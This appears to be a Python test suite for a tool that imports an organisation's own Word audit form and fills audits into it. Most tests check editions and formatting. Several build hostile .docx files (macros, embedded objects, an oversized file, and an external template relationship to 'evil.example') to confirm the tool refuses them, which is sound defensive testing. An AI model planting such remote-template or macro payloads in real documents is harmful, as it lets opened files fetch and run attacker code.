"""A service imports its own Word form; from then on its audits come back in it, through every door."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from docgen.ooxml.package import pack, unpack
from docgen.ooxml.reading import read_controls
from tests.docgen.form.own.forms import four_columns, tick_boxes
from tests.docgen.form.own.outside import differences
from tests.docgen.office import parts, text

JsonOf = Callable[..., Any]
Refused = Callable[..., str]
AUDIT = {
    "month": "2026-11",
    "auditor": "Alex Example",
    "child": {"childview_id": "CV-1", "name": "Taylor Fictional"},
    "answers": {"12": {"rating": "Requires Improvement", "comment": "The review is late."}},
}


@pytest.fixture
def own(tmp_path: Path) -> Path:
    path = tmp_path / "our form.docx"
    path.write_bytes(four_columns())
    return path


def recorded(json_of: JsonOf, folder: Path) -> str:
    path = folder / "audit.json"
    path.write_text(json.dumps(AUDIT))
    return str(json_of("audits", "import", str(path))["id"])


def form_in(folder: Path, json_of: JsonOf, audit: str) -> bytes:
    json_of("audits", "documents", audit, "--out", str(folder))
    return (folder / f"{audit}-form.docx").read_bytes()


def test_audits_made_under_it_are_delivered_in_it(json_of: JsonOf, own: Path, tmp_path: Path) -> None:
    json_of("import", str(own))
    made = form_in(tmp_path / "out", json_of, recorded(json_of, tmp_path))
    assert differences(own.read_bytes(), made) == []
    held = read_controls(made)
    assert (held["q12.rating"], held["q12.comment"]) == (
        "Requires Improvement to be Good",
        "The review is late.",
    )


def test_an_audit_keeps_the_document_of_its_own_edition(json_of: JsonOf, own: Path, tmp_path: Path) -> None:
    before = recorded(json_of, tmp_path)
    json_of("import", str(own))
    other = tmp_path / "newer.docx"
    other.write_bytes(tick_boxes())
    under = recorded(json_of, tmp_path)
    json_of("import", str(other))
    newest = recorded(json_of, tmp_path)
    assert "Anytown" not in text(form_in(tmp_path / "a", json_of, before))
    assert "Anytown Case Audit Tool" in text(form_in(tmp_path / "b", json_of, under))
    assert "Othershire Case Audit Form" in text(form_in(tmp_path / "c", json_of, newest))


def test_the_import_tells_what_the_form_lacks_and_leaves_it_alone(json_of: JsonOf, own: Path) -> None:
    before = own.read_bytes()
    (told,) = json_of("import", str(own))["files"]
    lacks = [problem["what"] for problem in told["problems"] if problem["where"] == "accessibility"]
    assert any("no row marked as their header" in what for what in lacks)
    assert any("no alternative text" in what for what in lacks)
    assert own.read_bytes() == before


def test_a_trial_run_keeps_nothing(json_of: JsonOf, own: Path, tmp_path: Path) -> None:
    json_of("import", str(own), "--dry-run")
    assert "Anytown" not in text(form_in(tmp_path / "out", json_of, recorded(json_of, tmp_path)))


def test_a_corrected_reading_keeps_the_document_it_was_read_from(
    json_of: JsonOf, own: Path, tmp_path: Path
) -> None:
    corrected = tmp_path / "reading.json"
    json_of("import", str(own), "--out", str(corrected))
    reading = json.loads(corrected.read_text())
    reading["form"]["title"] = "Anytown Case Audit Tool, mended"
    corrected.write_text(json.dumps(reading))
    json_of("import", str(corrected))
    assert json_of("form", "show")["title"] == "Anytown Case Audit Tool, mended"
    made = form_in(tmp_path / "out", json_of, recorded(json_of, tmp_path))
    assert differences(own.read_bytes(), made) == []


def test_the_same_form_with_another_look_takes_its_place(json_of: JsonOf, own: Path, tmp_path: Path) -> None:
    json_of("import", str(own))
    held = unpack(own.read_bytes(), "our form")
    newer = tmp_path / "newer.docx"
    newer.write_bytes(
        pack({**held, "word/styles.xml": held["word/styles.xml"].replace(b"Georgia", b"Verdana")})
    )
    json_of("import", str(newer))
    made = form_in(tmp_path / "out", json_of, recorded(json_of, tmp_path))
    assert b"Verdana" in parts(made)["word/styles.xml"]


@pytest.mark.parametrize(
    ("part", "said"),
    [
        ("word/vbaProject.bin", "macros"),
        ("word/activeX/activeX1.xml", "embedded object"),
        ("word/embeddings/oleObject1.bin", "embedded object"),
    ],
)
def test_a_form_that_acts_by_itself_is_refused(
    json_of: JsonOf, refused: Refused, own: Path, tmp_path: Path, part: str, said: str
) -> None:
    bad = tmp_path / "bad.docx"
    bad.write_bytes(pack({**unpack(own.read_bytes(), "form"), part: b"x"}))
    assert said in refused("import", str(bad))
    assert json_of("form", "show")["source"] == "built-in"


def test_a_form_that_fetches_something_is_refused(refused: Refused, own: Path, tmp_path: Path) -> None:
    held = unpack(own.read_bytes(), "form")
    name = "word/_rels/document.xml.rels"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    fetched = (
        f'<Relationship Id="x1" Type="{kind}" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    )
    held[name] = held[name].replace(b"</Relationships>", fetched.encode() + b"</Relationships>")
    bad = tmp_path / "bad.docx"
    bad.write_bytes(pack(held))
    assert "fetches something from elsewhere" in refused("import", str(bad))


def test_a_form_far_too_large_is_refused(refused: Refused, own: Path, tmp_path: Path) -> None:
    held = unpack(own.read_bytes(), "form")
    bomb = tmp_path / "bomb.docx"
    bomb.write_bytes(pack({**held, "word/media/picture.png": bytes(110_000_000)}))
    assert "far more than a form holds" in refused("import", str(bomb))


def test_the_empty_form_has_the_guidance_in_its_margin(json_of: JsonOf, own: Path, tmp_path: Path) -> None:
    json_of("audits", "blank", "--out", str(tmp_path / "built-in.docx"))
    json_of("import", str(own))
    json_of("audits", "blank", "--out", str(tmp_path / "own.docx"))
    for name in ("built-in", "own"):
        made = (tmp_path / f"{name}.docx").read_bytes()
        comments = parts(made)["word/comments.xml"].decode()
        assert comments.count("<w:comment ") > 30
        assert 'w:author="Checkback"' in comments
        assert "(built-in summary, edition carag-" in comments
    assert set(read_controls((tmp_path / "own.docx").read_bytes()).values()) == {""}


def test_the_empty_form_without_guidance_is_the_form_alone(
    json_of: JsonOf, own: Path, tmp_path: Path
) -> None:
    json_of("import", str(own))
    told = json_of("audits", "blank", "--no-guidance")
    assert told["file"] == "case-audit-blank.docx"
    assert differences(own.read_bytes(), (tmp_path / told["file"]).read_bytes()) == []
